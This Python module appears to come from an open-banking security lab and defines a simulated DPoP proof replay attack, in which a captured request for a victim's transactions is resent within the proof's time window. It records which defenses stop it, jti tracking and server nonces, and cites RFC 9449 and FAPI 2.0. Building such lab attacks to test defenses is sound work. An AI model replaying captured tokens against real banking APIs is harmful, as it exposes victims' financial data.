"""dpop-proof-replay: a captured resource request resent byte for byte inside the proof window.

The A5 attacker reads FinLens's GET /accounts/{id}/transactions with its Authorization
and DPoP headers and resends it at once, well inside the 60 s iat window. The proof
matches method, URI and token, so only remembering jti values or demanding fresh
server nonces tells the copy from the original (RFC 9449 §11.1; FAPI2 §6.2).
"""

from __future__ import annotations

from attacker.attack_context import AttackContext
from attacker.attacks import Attack
from attacker.forge import is_transactions, replay
from attacker.premises import linked_victim


def run(ctx: AttackContext) -> None:
    linked_victim(ctx)
    leaked = ctx.capture.last("resource", where=is_transactions)
    proof = "with its DPoP proof" if leaked.header("DPoP") else "(no DPoP proof was sent)"
    ctx.step("attacker", f"copies FinLens's GET {leaked.path} {proof}")
    response = replay(ctx, leaked, what="resends the captured request byte for byte")
    if response.status_code != 200:
        ctx.failed("the bank refused the replayed request", response)
    data = response.json()
    ctx.succeeded(f"read {len(data.get('transactions') or [])} transactions of the victim's "
                  f"account {data.get('account_id')} with a replayed proof", data)


ATTACK = Attack(
    id="dpop-proof-replay", attacker="A5", legs=("resource",), victim="prior",
    title="Resource request replayed verbatim",
    blocked_by=("dpop_jti_replay", "dpop_nonce"),
    premise="Reads one captured TPP→bank request (URL, Authorization, DPoP) and resends it "
            "within the proof's 60 s window; holds no key.",
    goal="the victim's transactions", run=run, needs={"sender_constraint": "dpop"},
    fapi2_blocks=False,
    why_not="FAPI 2.0 accepts a proof again within its iat window: jti tracking, server "
            "nonces, message signing and mTLS are only options (FAPI2 §6.2)",
    refs=("RFC 9449 §11.1", "FAPI2 §6.2"),
    not_alone={
        "dpop_nonce": "the lab's nonces are per time step, valid 60-120 s (RFC 9449 §8 leaves "
                      "the lifetime to the server), so a copy sent seconds later carries a nonce "
                      "that is still good; nonces stop proofs made in advance "
                      "(dpop-pregenerated-proof), jti tracking stops verbatim copies",
    },
)
